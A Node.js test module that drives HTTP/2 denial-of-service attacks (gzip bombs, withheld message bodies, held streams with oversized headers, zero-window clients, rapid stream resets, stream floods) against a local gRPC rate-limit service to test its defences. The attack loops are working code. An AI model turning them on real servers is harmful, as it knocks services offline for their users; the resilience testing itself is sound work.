import http2 from 'node:http2';
import net from 'node:net';
import { pathToFileURL } from 'node:url';
import { gzipSync } from 'node:zlib';
import { ROUND6 } from './inflight-attacks.mjs';

/** One HTTP/2 client abusing the gRPC port (issue 50, round 5), each attack a loop that runs until its signal is
 * aborted and then lets go of everything it holds: gzip bombs, declared messages that never come, streams held
 * open (with a header list near the bound), answers never read (a window of 0), rapid resets with reconnects, and
 * RLQS streams past their bound. Run as a process of its own (`node port-attacks.mjs NAME PORT MS`), so its work
 * is not timed as the service's: by port-attacks.test.ts (each alone, on both servers) and bench/fuzz.mjs (mixed
 * at random). A plain .mjs file: a child process does not go through vitest's transform. Every loop is bounded: a
 * stream count per session, sessions per attack. */

export const RLS_PATH = '/envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit';
const RLQS_PATH = '/envoy.service.rate_limit_quota.v3.RateLimitQuotaService/StreamRateLimitQuotas';
const GRPC = { ':method': 'POST', 'content-type': 'application/grpc', te: 'trailers' };

/** A message with its gRPC prefix: `flag` 1 says compressed; `declared` may differ from the bytes that follow. */
export function frame(message, flag = 0, declared = message.length) {
  const head = Buffer.alloc(5);
  head[0] = flag;
  head.writeUInt32BE(declared, 1);
  return Buffer.concat([head, message]);
}

/** A protobuf length-delimited field. */
const field = (n, bytes) => Buffer.concat([Buffer.from([(n << 3) | 2, bytes.length]), bytes]);
const entry = (key, value) => field(1, Buffer.concat([field(1, Buffer.from(key)), field(2, Buffer.from(value))]));
/** RateLimitRequest{domain: property-api, descriptors: [{category: read, token: attacker}]}. */
export const REQUEST = Buffer.concat([field(1, Buffer.from('property-api')), field(2, Buffer.concat([entry('category', 'read'), entry('token', 'attacker')]))]);
/** ~4 KB of gzip that inflates to 4 MiB. */
const BOMB = frame(gzipSync(Buffer.alloc(4 * 1024 * 1024)), 1);

/** The loopback address attacks connect from (`node port-attacks.mjs NAME PORT MS [ADDRESS]`): the soak gives
 * the attacker an address of its own, so the pace its address earns is its own. */
let localAddress;

/** Sessions kept open by `work` until the signal: a session that the server ends is opened again at once. */
function sessions(port, signal, count, work, settings) {
  const open = new Set();
  return new Promise((resolve) => {
    const start = () => {
      if (signal.aborted) return;
      const createConnection = localAddress && (() => net.connect({ host: '127.0.0.1', port, localAddress }));
      const s = http2.connect(`http://127.0.0.1:${port}`, { ...(settings && { settings }), ...(createConnection && { createConnection }) });
      open.add(s);
      s.on('error', () => undefined);
      s.on('close', () => {
        open.delete(s);
        // Reconnecting as fast as the server lets it, a little later when refused, so the loop is not a busy one.
        if (!signal.aborted) setTimeout(start, 5);
      });
      s.on('connect', () => work(s));
    };
    for (let i = 0; i < count; i++) start();
    signal.addEventListener('abort', () => {
      for (const s of open) s.destroy();
      resolve();
    });
  });
}

/** Requests on a session, `width` at a time, each made by `send`, until the session or the signal ends. */
function keep(s, signal, width, send) {
  let inFlight = 0;
  const next = () => {
    while (!signal.aborted && !s.closed && !s.destroyed && inFlight < width) {
      let req;
      try {
        req = send();
      } catch {
        return;
      }
      inFlight++;
      req.on('error', () => undefined);
      req.on('data', () => undefined);
      req.on('close', () => {
        inFlight--;
        setImmediate(next);
      });
    }
  };
  next();
}

export const gzipBombs = (port, signal) =>
  sessions(port, signal, 4, (s) => keep(s, signal, 64, () => s.request({ ...GRPC, ':path': RLS_PATH, 'grpc-encoding': 'gzip' }).end(BOMB)));

/** The 5-byte prefix of a message just under the receive limit, and nothing more, held open. */
export const declaredNeverSent = (port, signal) =>
  sessions(port, signal, 4, (s) =>
    keep(s, signal, 300, () => {
      const req = s.request({ ...GRPC, ':path': RLS_PATH });
      req.write(frame(Buffer.alloc(0), 0, 250 * 1024));
      return req;
    }),
  );

/** Streams opened with ~12 KB of headers and never ended, no grpc-timeout: on every method. */
export const heldStreams = (port, signal) => {
  const bulk = 'h'.repeat(3800);
  const headers = { 'x-a': bulk, 'x-b': bulk, 'x-c': bulk };
  const paths = [RLS_PATH, '/grpc.health.v1.Health/Check', RLQS_PATH];
  let i = 0;
  return sessions(port, signal, 4, (s) => keep(s, signal, 300, () => s.request({ ...GRPC, ...headers, ':path': paths[i++ % paths.length] })));
};

/** Calls whose answers cannot be sent: the client's window is 0 and never opened. */
export const unreadAnswers = (port, signal) =>
  sessions(port, signal, 4, (s) => keep(s, signal, 300, () => s.request({ ...GRPC, ':path': RLS_PATH }).end(frame(REQUEST))), { initialWindowSize: 0 });

/** A stream opened and reset at once, over and over; a session the server ends is opened again at once. */
export const rapidReset = (port, signal) =>
  sessions(port, signal, 4, (s) =>
    keep(s, signal, 32, () => {
      const req = s.request({ ...GRPC, ':path': RLS_PATH });
      req.close(http2.constants.NGHTTP2_CANCEL);
      return req;
    }),
  );

/** RLQS streams past the per-connection bound, held open: each one past it is refused. */
export const rlqsFlood = (port, signal) => sessions(port, signal, 4, (s) => keep(s, signal, 100, () => s.request({ ...GRPC, ':path': RLQS_PATH })));

export const ATTACKS = { gzipBombs, declaredNeverSent, heldStreams, unreadAnswers, rapidReset, rlqsFlood };

// As a process: `node port-attacks.mjs NAME PORT MS [ADDRESS [TAG]]` runs one attack for MS and exits. Round 6's
// (inflight-attacks.mjs) judge what they are answered: a JSON line on stdout for each problem (the first 20) and
// for what they did, and exit status 3 when anything was wrong.
if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) {
  const [name, port, ms, address, tag = 'attack'] = process.argv.slice(2);
  localAddress = address;
  const stop = new AbortController();
  setTimeout(() => stop.abort(), Number(ms));
  let problems = 0;
  const stats = {};
  const report = (problem) => {
    if (problems++ < 20) process.stdout.write(`${JSON.stringify({ problem })}\n`);
  };
  const stat = (kind, n = 1) => {
    stats[kind] = (stats[kind] ?? 0) + n;
  };
  const notes = [];
  const note = (text) => notes.push(text);
  if (ATTACKS[name]) await ATTACKS[name](Number(port), stop.signal);
  else await ROUND6[name](Number(port), stop.signal, { address, tag, report, stat, note });
  process.stdout.write(`${JSON.stringify({ problems, stats, notes })}\n`, () => process.exit(problems > 0 ? 3 : 0));
}
